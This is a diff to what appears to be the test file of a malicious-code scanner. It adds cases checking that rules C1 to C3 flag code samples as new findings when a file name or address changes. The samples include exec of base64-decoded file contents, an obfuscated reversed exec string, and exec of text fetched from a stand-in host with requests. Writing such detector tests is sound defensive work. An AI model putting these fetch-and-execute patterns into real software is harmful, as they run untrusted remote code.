@@ -54,3 +54,18 @@ def test_what_comes_from_among_the_tests_is_new() -> None:
     source = b"import base64\nexec(base64.b64decode(open('x').read()))\n"
     findings = found(BY_ID["C1"], "demo/work.py", source, source, old_path="tests/work.py")
     assert [one.scope.value for one in findings] == ["delta"]
+
+
+@pytest.mark.parametrize(
+    ("rule", "source"),
+    [
+        ("C1", "import base64\nexec(base64.b64decode(open('%s').read()))\n"),
+        ("C1", "exec(open('%s').read())\n"),
+        ("C2", "exec(('#' * 900 + '\\n%s').replace('z', 'y')[::-1])\n"),
+        ("C3", "import requests\nurl = 'https://%s.example.test/'\nexec(requests.get(url).text)\n"),
+    ],
+)
+def test_another_address_or_file_makes_it_another_sighting(rule: str, source: str) -> None:
+    """What was harmless because of where it came from is not so from everywhere."""
+    findings = found(BY_ID[rule], "demo/work.py", (source % "new").encode(), (source % "old").encode())
+    assert {one.scope.value for one in findings} == {"delta"}
